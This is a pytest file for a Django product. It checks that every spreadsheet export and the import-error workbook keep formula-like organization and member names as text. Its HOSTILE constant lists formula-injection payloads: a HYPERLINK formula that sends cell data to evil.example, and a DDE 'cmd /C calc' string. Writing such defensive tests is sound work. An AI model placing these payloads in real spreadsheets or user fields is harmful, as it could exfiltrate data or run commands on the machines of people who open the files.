"""Every spreadsheet the product writes keeps text as text: organizations and members named like
formulas (=HYPERLINK(…), +, -, @, {=…}) go through every export on the full demo, and no
worksheet of any export holds a formula (an <f> element), while the names are there as text."""

import datetime as dt
import io
import re
import zipfile

import pytest
from django.core.management import call_command
from django.urls import reverse

from chuangxian.appraisal.models import SubjectResult
from chuangxian.campaigns.models import Campaign
from chuangxian.orgs.models import Member, Organization
from chuangxian.roster_io.report import RowError
from chuangxian.roster_io.workbook import error_workbook
from chuangxian.xlsx import text_workbook

pytestmark = pytest.mark.django_db
TODAY = dt.date(2026, 11, 22)
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&B2,"点此查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    '{=HYPERLINK("http://evil.example/")}',
    "http://evil.example/点此",
)


def formulas_in(content: bytes) -> list[str]:
    """The formulas of every worksheet of an .xlsx (empty when there are none)."""
    found: list[str] = []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode()
                found += re.findall(r"<f[ >].*?</f>|<f[^>]*/>", xml)
                assert "<hyperlink " not in xml, name
    return found


def texts_in(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return "".join(
            archive.read(name).decode()
            for name in archive.namelist()
            if name == "xl/sharedStrings.xml" or name.startswith("xl/worksheets/")
        )


def escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def hostile_name(index: int) -> str:
    return f"{HOSTILE[index % len(HOSTILE)]}{index}"


def test_no_export_writes_a_formula_from_user_data(client) -> None:  # type: ignore[no-untyped-def]
    out = io.StringIO()
    call_command("seed_demo", "--members", "300", "--today", TODAY.isoformat(), stdout=out)
    orgs = list(Organization.objects.order_by("pk"))
    for index, org in enumerate(orgs):
        org.name = hostile_name(index)
    Organization.objects.bulk_update(orgs, ["name"])
    members = list(Member.objects.order_by("pk"))
    for index, member in enumerate(members):
        member.name = hostile_name(index)
    Member.objects.bulk_update(members, ["name"])
    root = Organization.objects.filter(parent__isnull=True).order_by("pk").first()
    assert root is not None
    campaign = Campaign.objects.order_by("pk").first()
    result = SubjectResult.objects.order_by("pk").first()
    assert campaign is not None and result is not None
    assert client.login(username="admin", password="Demo2026pass")

    exports = {
        "roster": (reverse("roster:export") + f"?org={root.pk}", True),
        "roster template": (reverse("roster:template"), False),
        "compliance": (reverse("orglife:compliance_export") + f"?org={root.pk}", True),
        "learning ledger": (
            reverse("learning:ledger_export", args=[root.pk]) + "?year=2026",
            True,
        ),
        "dues statement": (reverse("dues:statement_export", args=[root.pk]), True),
        "dues template": (reverse("dues:import_template"), False),
        "appraisal results": (reverse("appraisal:export", args=[result.round_id]), False),
        "commitments": (reverse("commitments:export") + f"?org={root.code}", True),
        "campaign targets": (reverse("campaigns:export", args=[campaign.pk, root.pk]), True),
        "audit trail": (reverse("orgs:audit_export"), False),
    }
    exports |= {
        f"learning template {kind}": (reverse("learning:import_template", args=[kind]), False)
        for kind in ("offline", "xuexi", "questions")
    }
    for label, (url, names_expected) in exports.items():
        response = client.get(url)
        assert response.status_code == 200, (label, url)
        content = b"".join(response.streaming_content) if response.streaming else response.content
        assert content.startswith(b"PK"), label
        assert formulas_in(content) == [], label
        if names_expected:
            text = texts_in(content)
            assert any(escaped(hostile_name(i)) in text for i in range(len(orgs))), label


def test_the_import_error_list_keeps_cells_as_text() -> None:
    errors = [RowError(sheet=HOSTILE[0], row=3, column=HOSTILE[4], reason=HOSTILE[3])]
    content = error_workbook(errors)
    assert formulas_in(content) == []
    assert escaped(HOSTILE[4]) in texts_in(content)


@pytest.mark.parametrize("text", HOSTILE)
def test_every_write_method_writes_strings_as_strings(text: str) -> None:
    buffer = io.BytesIO()
    book = text_workbook(buffer, {"strings_to_formulas": True, "strings_to_urls": True})
    sheet = book.add_worksheet()
    sheet.write(0, 0, text)
    sheet.write_row(1, 0, [text, text])
    sheet.write_column(2, 0, [text])
    book.close()
    assert formulas_in(buffer.getvalue()) == []
    assert escaped(text) in texts_in(buffer.getvalue())
